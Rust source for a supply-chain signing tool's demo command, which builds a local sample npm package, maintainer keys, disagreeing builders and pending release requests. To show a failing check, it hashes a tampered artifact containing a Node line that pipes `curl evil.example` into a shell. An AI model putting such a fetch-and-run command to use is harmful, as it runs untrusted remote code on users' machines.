//! `chainlock demo`: a working world in seconds, so a newcomer sees a real pending request.
//!
//! Everything is real but local: a coordination remote (a bare git repository), a sample
//! npm package with a genesis and two tagged releases, three builders that really rebuild it
//! in the sandbox (two agree, one does not), three maintainer keys in the OS keychain
//! (labelled `chainlock demo ...`), one local ledger file. The genesis and 1.0.0 are final;
//! 1.1.0 waits for *your* signature (Bob has signed); a tampered 1.1.0 request shows what a
//! failing check looks like. Nothing here touches the BSV network.
//!
//! With [`DemoOptions::ledger`], *you* are a Ledger instead of a keychain key: the device's
//! public key at the default ChainLock path goes into the policy and into your key index
//! (as a Ledger key), so 1.1.0 waits for a signature from the device. The device is asked
//! for its key before anything is created: unreachable, the demo stops with what to do and
//! leaves nothing behind.

use std::path::{Path, PathBuf};

use chainlock_attest::rebuild::{attest, RebuildSpec, DEFAULT_BUILD_TIMEOUT};
use chainlock_attest::sandbox::Sandbox;
use chainlock_attest::BuilderKey;
use chainlock_chain::{LocalLedger, PackageId};
use chainlock_protocol::hash::Digest;
use chainlock_protocol::keys::PublicKey;
use chainlock_protocol::policy::Policy;
use chainlock_protocol::record::{Ecosystem, Record};
use chainlock_signer::keychain::{KeyInfo, Keychain};
use chainlock_signer::ledger::DerivationPath;
use chainlock_signer::{KeyUri, OpenOptions};

use crate::config::{ChainConfig, Paths};
use crate::coord::Coord;
use crate::publisher::{self, Publisher, DEFAULT_LIFETIME_SECS};
use crate::workspace::Workspace;
use crate::{Error, Result};

/// Every key the demo puts in the keychain carries this label prefix.
pub const LABEL_PREFIX: &str = "chainlock demo";

/// What the demo built.
#[derive(Debug, Clone)]
pub struct DemoWorld {
    /// The demo's directory.
    pub dir: PathBuf,
    /// Your configuration and data directories (export them to use the demo).
    pub you: Paths,
    /// The coordination remote.
    pub remote: String,
    /// The request waiting for your signature.
    pub pending: Digest,
    /// The tampered request.
    pub tampered: Digest,
    /// Your key's id.
    pub your_key: String,
    /// The key URI you sign with: `keychain://<id>`, or `ledger://<path>` with a Ledger.
    pub your_key_uri: String,
}

/// How the demo is built.
#[derive(Debug, Clone, Default)]
pub struct DemoOptions {
    /// Be *you* with the Ledger reachable with these options (USB, or Speculos with
    /// `ledger_tcp`): its key at the default ChainLock path replaces your keychain key.
    pub ledger: Option<OpenOptions>,
    /// Also put this many generated source files in the package, each changed by one line
    /// in 1.1.0: a big review to try the diff on (the app's 10,000-file benchmark uses it).
    pub extra_files: usize,
}

/// The most generated files a demo may hold.
pub const MAX_EXTRA_FILES: usize = 100_000;

struct Persona {
    paths: Paths,
    key: KeyInfo,
}

impl Persona {
    /// A persona with a new keychain key, or, with `device_key`, the Ledger key given.
    fn new(dir: &Path, name: &str, ledger: &Path, device_key: Option<PublicKey>) -> Result<Self> {
        let paths = Paths {
            config_dir: dir.join(name).join("config"),
            data_dir: dir.join(name).join("data"),
        };
        let keychain = Keychain::new(Some(paths.config_dir.clone()))?;
        let label = format!("{LABEL_PREFIX}: {name}");
        let key = match device_key {
            Some(public_key) => keychain.add_ledger(
                public_key,
                &DerivationPath::chainlock_default(),
                &format!("{label} (Ledger)"),
            )?,
            None => keychain.generate(&label)?,
        };
        let mut ws = Workspace::open(paths.clone())?;
        ws.set_chain(ChainConfig::Local {
            path: Some(ledger.to_path_buf()),
        })?;
        Ok(Persona { paths, key })
    }

    fn workspace(&self) -> Result<Workspace> {
        Workspace::open(self.paths.clone())
    }

    fn options(&self) -> OpenOptions {
        OpenOptions {
            config_dir: Some(self.paths.config_dir.clone()),
            ..OpenOptions::default()
        }
    }
}

/// Builds the demo world in `dir` (which must not exist or be empty). `say` hears progress.
pub fn create(dir: &Path, now: u64, say: impl FnMut(&str)) -> Result<DemoWorld> {
    create_with(dir, now, &DemoOptions::default(), say)
}

/// [`create`] with options: with `options.ledger`, you sign with the Ledger.
pub fn create_with(
    dir: &Path,
    now: u64,
    options: &DemoOptions,
    mut say: impl FnMut(&str),
) -> Result<DemoWorld> {
    if dir.exists()
        && std::fs::read_dir(dir)
            .map_err(|e| Error::io("cannot read", dir, e))?
            .next()
            .is_some()
    {
        return Err(Error::Refused(format!(
            "{} is not empty: give a new directory, or `chainlock demo --clean {}` first",
            dir.display(),
            dir.display()
        )));
    }
    if options.extra_files > MAX_EXTRA_FILES {
        return Err(Error::Refused(format!(
            "{} extra files is more than the demo makes ({MAX_EXTRA_FILES} at most)",
            options.extra_files
        )));
    }
    // Before anything is created: a device that does not answer leaves nothing behind.
    let device_key = match &options.ledger {
        Some(open) => {
            say("reading your key from the Ledger (default ChainLock path)");
            Some(ledger_key(open)?)
        }
        None => None,
    };
    std::fs::create_dir_all(dir).map_err(|e| Error::io("cannot create", dir, e))?;
    let dir = dir
        .canonicalize()
        .map_err(|e| Error::io("cannot resolve", dir, e))?;
    let ledger_path = dir.join("ledger.sqlite");
    let ledger = LocalLedger::open(&ledger_path)?;

    say("creating the sample package `pad` with tags v1.0.0 and v1.1.0");
    let source = dir.join("source");
    let remote_dir = dir.join("remote/pad.git");
    let (v100, v110) = sample_repository(&source, &remote_dir, options.extra_files)?;
    let remote = format!("file://{}", remote_dir.display());

    say(if device_key.is_some() {
        "creating Alice's and Bob's keys in your keychain (labelled `chainlock demo`); yours is the Ledger's"
    } else {
        "creating three maintainer keys in your keychain (labelled `chainlock demo`)"
    });
    let alice = Persona::new(&dir, "alice", &ledger_path, None)?;
    let bob = Persona::new(&dir, "bob", &ledger_path, None)?;
    let you = Persona::new(&dir, "you", &ledger_path, device_key)?;
    let funding = Keychain::new(Some(alice.paths.config_dir.clone()))?
        .generate(&format!("{LABEL_PREFIX}: alice funding"))?;

    say("three builders: two build honestly, the third adds a line");
    let builders: Vec<BuilderKey> = (0..3)
        .map(|_| BuilderKey::generate())
        .collect::<std::result::Result<_, _>>()?;
    let policy = Policy::new(
        vec![alice.key.public_key, bob.key.public_key, you.key.public_key],
        2,
        builders.iter().map(|b| b.public_key().to_hex()).collect(),
        2,
        86_400,
    )?;
    let package = PackageId::new(Ecosystem::Npm, "pad");

    let coord = Coord::open(&alice.paths.mirror(&package.to_string()), &remote)?;
    let publisher = Publisher {
        chain: &ledger,
        config_dir: alice.paths.config_dir.clone(),
        coord,
        publisher_key: alice.key.uri(),
        funding_key: funding.key_id.clone(),
        options: alice.options(),
    };
    let (funding_script, _) = publisher.funding_script()?;
    ledger.faucet(&funding_script, 1_000_000)?;
    publisher::write_policy(&source, &policy)?;
    publisher.fund(&policy, 6, publisher::DEFAULT_CUSTODY_SATS)?;

    say("genesis: requested by Alice, signed by Alice and Bob, final");
    let genesis = publisher.request(
        Publisher::genesis(&package, &policy),
        &policy,
        vec![],
        now,
        DEFAULT_LIFETIME_SECS,
    )?;
    for p in [&alice, &bob] {
        let mut ws = p.workspace()?;
        ws.watch_add(&remote, &clone_for(p, &remote)?)?;
    }
    let genesis_id = genesis.id()?.to_hex();
    sign_as(&alice, &genesis_id, now)?;
    sign_as(&bob, &genesis_id, now)?;
    let fin = alice.workspace()?;
    fin.sync()?;
    fin.finalize(&genesis_id, now)?;

    say("release 1.0.0: rebuilt by the three builders, signed by Alice and Bob, final");
    rebuild_all(&builders, &remote, &v100, &publisher.coord, false)?;
    let artifact = build_artifact(&source, &v100, &dir.join("artifacts/pad-1.0.0.js"))?;
    let (record, policy_now, envelopes) =
        publisher.release(&package, &source, &remote, "v1.0.0", &artifact)?;
    let r100 = publisher.request(record, &policy_now, envelopes, now, DEFAULT_LIFETIME_SECS)?;
    let id100 = r100.id()?.to_hex();
    for p in [&alice, &bob] {
        p.workspace()?.sync()?;
        sign_as(p, &id100, now)?;
    }
    let fin = alice.workspace()?;
    fin.sync()?;
    fin.finalize(&id100, now)?;

    say("release 1.1.0: rebuilt (the third builder disagrees), signed by Bob, waiting for you");
    rebuild_all(&builders, &remote, &v110, &publisher.coord, true)?;
    let artifact = build_artifact(&source, &v110, &dir.join("artifacts/pad-1.1.0.js"))?;
    let (record, policy_now, envelopes) =
        publisher.release(&package, &source, &remote, "v1.1.0", &artifact)?;
    let honest = publisher.request(
        record.clone(),
        &policy_now,
        envelopes.clone(),
        now,
        DEFAULT_LIFETIME_SECS,
    )?;
    let pending = honest.id()?;
    bob.workspace()?.sync()?;
    sign_as(&bob, &pending.to_hex(), now)?;

    say("a tampered 1.1.0 request: another artifact, a diff that is not the tag's");
    let mut evil = record;
    if let Record::Release(r) = &mut evil {
        let bytes = b"require('child_process').exec('curl evil.example | sh')\n";
        r.artifact.sha256 = Digest::of(bytes);
        r.artifact.size = bytes.len() as u64;
        r.diff_digest = Digest::of(b"not the diff of v1.0.0..v1.1.0");
    }
    let tampered = publisher
        .request(evil, &policy_now, envelopes, now + 1, DEFAULT_LIFETIME_SECS)?
        .id()?;

    say("your workspace: watching the package, synced");
    let mut mine = you.workspace()?;
    mine.watch_add(&remote, &clone_for(&you, &remote)?)?;
    mine.set_demo(true)?;
    mine.sync()?;
    Ok(DemoWorld {
        dir: dir.clone(),
        you: you.paths.clone(),
        remote,
        pending,
        tampered,
        your_key: you.key.key_id.clone(),
        your_key_uri: you.key.uri(),
    })
}

/// The Ledger's public key at the default ChainLock path, read without asking the user to
/// confirm anything (the policy only needs the key; signing is confirmed on the device).
fn ledger_key(open: &OpenOptions) -> Result<PublicKey> {
    let options = OpenOptions {
        confirm_on_device: false,
        ..open.clone()
    };
    let uri = KeyUri::Ledger {
        path: String::new(),
    }
    .to_string();
    let signer = chainlock_signer::open(&uri, &options)?;
    Ok(signer.identity().public_key)
}

/// Removes the demo's keychain entries (every key in the demo's key indexes) and `dir`.
pub fn clean(dir: &Path) -> Result<usize> {
    let mut removed = 0;
    for name in ["alice", "bob", "you"] {
        let config = dir.join(name).join("config");
        if !config.exists() {
            continue;
        }
        let keychain = Keychain::new(Some(config))?;
        for key in keychain.list()? {
            // A Ledger key has no keychain entry: the directory's removal takes its index line.
            if key.label.starts_with(LABEL_PREFIX) && key.ledger_path.is_none() {
                keychain.delete(&key.key_id)?;
                removed += 1;
            }
        }
    }
    if dir.exists() {
        std::fs::remove_dir_all(dir).map_err(|e| Error::io("cannot remove", dir, e))?;
    }
    Ok(removed)
}

fn clone_for(p: &Persona, remote: &str) -> Result<PathBuf> {
    let clone = p
        .paths
        .config_dir
        .parent()
        .unwrap_or(&p.paths.config_dir)
        .join("clone");
    publisher::clone_if_missing(remote, &clone)?;
    Ok(clone)
}

/// Signs as `p`, acknowledging the warnings (in the demo, the disagreeing builder).
fn sign_as(p: &Persona, id: &str, now: u64) -> Result<()> {
    p.workspace()?
        .sign(id, &p.key.uri(), &p.options(), now, true)
        .map(|_| ())
}

const BUILD: &str = "mkdir -p dist && { echo '// pad, built'; cat index.js; } > dist/pad.js";

fn rebuild_all(
    builders: &[BuilderKey],
    remote: &str,
    commit: &str,
    coord: &Coord,
    third_disagrees: bool,
) -> Result<()> {
    for (i, key) in builders.iter().enumerate() {
        let command = if third_disagrees && i == 2 {
            format!("{BUILD} && echo '// built on a different machine' >> dist/pad.js")
        } else {
            BUILD.to_string()
        };
        let spec = RebuildSpec {
            repository: remote.to_string(),
            commit: commit.to_string(),
            command,
            artifact: "dist/pad.js".into(),
            timeout: DEFAULT_BUILD_TIMEOUT,
            sandbox: Sandbox::default(),
        };
        let (envelope, _) = attest(&spec, key)?;
        let bytes = chainlock_attest::dsse::to_json_pretty(&envelope)?;
        coord.publish(
            &format!(
                "refs/chainlock/attest/{commit}/{}",
                key.public_key().key_id()
            ),
            &[("envelope.json", bytes.as_bytes())],
            "chainlock: attestation",
        )?;
    }
    Ok(())
}

/// The publisher's own build of `commit`, as it would be published.
fn build_artifact(source: &Path, commit: &str, out: &Path) -> Result<PathBuf> {
    let git = git2::Repository::open(source).map_err(|e| Error::git("open the source", &e))?;
    let oid = git2::Oid::from_str(commit).map_err(|e| Error::git("parse commit", &e))?;
    let tree = git
        .find_commit(oid)
        .and_then(|c| c.tree())
        .map_err(|e| Error::git("read commit", &e))?;
    let index = tree
        .get_name("index.js")
        .and_then(|e| e.to_object(&git).ok())
        .and_then(|o| o.peel_to_blob().ok())
        .ok_or_else(|| Error::Refused("the sample has no index.js".into()))?;
    let mut bytes = b"// pad, built\n".to_vec();
    bytes.extend_from_slice(index.content());
    if let Some(dir) = out.parent() {
        std::fs::create_dir_all(dir).map_err(|e| Error::io("cannot create", dir, e))?;
    }
    std::fs::write(out, &bytes).map_err(|e| Error::io("cannot write", out, e))?;
    Ok(out.to_path_buf())
}

/// Generated source file `i` of the sample at `version`: 40 lines, line 21 differs between
/// versions, a hundred files a directory.
fn generated_file(i: usize, version: &str) -> (String, String) {
    let body = (0..40)
        .map(|l| {
            if l == 20 {
                format!("export const value{i} = '{version}'; // the line each release changes\n")
            } else {
                format!("// line {l} of generated file {i}: context that stays the same\n")
            }
        })
        .collect();
    (format!("src/m{:03}/f{i}.js", i / 100), body)
}

/// The sample package: two tagged commits, pushed to a bare remote. Returns both commit ids.
fn sample_repository(source: &Path, remote: &Path, extra: usize) -> Result<(String, String)> {
    let g = |action: &str| {
        let action = action.to_string();
        move |e: git2::Error| Error::git(action.clone(), &e)
    };
    let repo = git2::Repository::init(source).map_err(g("create the sample repository"))?;
    let sig = git2::Signature::new(
        "Alice (demo)",
        "alice@demo.invalid",
        &git2::Time::new(1_790_000_000, 0),
    )
    .map_err(g("signature"))?;
    let mut parent: Option<git2::Oid> = None;
    let mut ids = Vec::new();
    let versions: [(&str, &str); 2] = [
        (
            "1.0.0",
            "module.exports = function pad(text, width) {\n  return String(text).padStart(width);\n};\n",
        ),
        (
            "1.1.0",
            "module.exports = function pad(text, width, fill = ' ') {\n  if (!Number.isInteger(width) || width < 0) throw new RangeError('width');\n  return String(text).padStart(width, fill);\n};\n",
        ),
    ];
    for (version, index) in versions {
        let mut files: Vec<(String, String)> = vec![
            (
                "package.json".into(),
                format!("{{\n  \"name\": \"pad\",\n  \"version\": \"{version}\",\n  \"main\": \"dist/pad.js\"\n}}\n"),
            ),
            ("index.js".into(), index.to_string()),
            ("build.sh".into(), format!("{BUILD}\n")),
            ("README.md".into(), format!("# pad {version}\n\nPads text. A ChainLock demo package.\n")),
        ];
        files.extend((0..extra).map(|i| generated_file(i, version)));
        for (name, text) in &files {
            let path = source.join(name);
            if let Some(dir) = path.parent() {
                std::fs::create_dir_all(dir).map_err(|e| Error::io("cannot create", dir, e))?;
            }
            std::fs::write(&path, text).map_err(|e| Error::io("cannot write", &path, e))?;
        }
        let mut index_file = repo.index().map_err(g("index"))?;
        for (name, _) in &files {
            index_file.add_path(Path::new(name)).map_err(g("stage"))?;
        }
        index_file.write().map_err(g("write index"))?;
        let tree_id = index_file.write_tree().map_err(g("write tree"))?;
        let tree = repo.find_tree(tree_id).map_err(g("read tree"))?;
        let parents: Vec<git2::Commit<'_>> = parent
            .map(|p| repo.find_commit(p))
            .transpose()
            .map_err(g("read parent"))?
            .into_iter()
            .collect();
        let parent_refs: Vec<&git2::Commit<'_>> = parents.iter().collect();
        let oid = repo
            .commit(
                Some("HEAD"),
                &sig,
                &sig,
                &format!("pad {version}"),
                &tree,
                &parent_refs,
            )
            .map_err(g("commit"))?;
        let object = repo.find_object(oid, None).map_err(g("find commit"))?;
        repo.tag_lightweight(&format!("v{version}"), &object, false)
            .map_err(g("tag"))?;
        parent = Some(oid);
        ids.push(oid.to_string());
    }
    git2::Repository::init_bare(remote).map_err(g("create the remote"))?;
    let mut origin = repo
        .remote("origin", &format!("file://{}", remote.display()))
        .map_err(g("add origin"))?;
    let head = repo.head().map_err(g("head"))?;
    let branch = head.name().unwrap_or("refs/heads/master").to_string();
    origin
        .push(
            &[
                format!("{branch}:{branch}").as_str(),
                "refs/tags/v1.0.0:refs/tags/v1.0.0",
                "refs/tags/v1.1.0:refs/tags/v1.1.0",
            ],
            None,
        )
        .map_err(g("push the sample to its remote"))?;
    Ok((ids[0].clone(), ids[1].clone()))
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]

    use super::*;

    #[test]
    fn extra_files_are_in_both_releases_and_each_changed_by_one_line() {
        let dir = tempfile::tempdir().unwrap();
        let (v100, v110) = sample_repository(
            &dir.path().join("source"),
            &dir.path().join("remote.git"),
            250,
        )
        .unwrap();
        let stats =
            chainlock_diff::diff_digest(&dir.path().join("source"), Some(&v100), &v110).unwrap();
        // index.js, package.json, README.md and the 250 generated files; build.sh is unchanged.
        assert_eq!(stats.entries, 253);
        let (name, body) = generated_file(249, "1.1.0");
        assert_eq!(name, "src/m002/f249.js");
        assert_eq!(body.lines().count(), 40);
        let old = generated_file(249, "1.0.0").1;
        let changed = old
            .lines()
            .zip(body.lines())
            .filter(|(a, b)| a != b)
            .count();
        assert_eq!(changed, 1);
    }

    #[test]
    fn too_many_extra_files_are_refused_before_anything_is_created() {
        let dir = tempfile::tempdir().unwrap();
        let target = dir.path().join("demo");
        let options = DemoOptions {
            extra_files: MAX_EXTRA_FILES + 1,
            ..DemoOptions::default()
        };
        let err = create_with(&target, 1_790_000_000, &options, |_| {}).unwrap_err();
        assert!(err.to_string().contains("at most"), "{err}");
        assert!(!target.exists());
    }
}
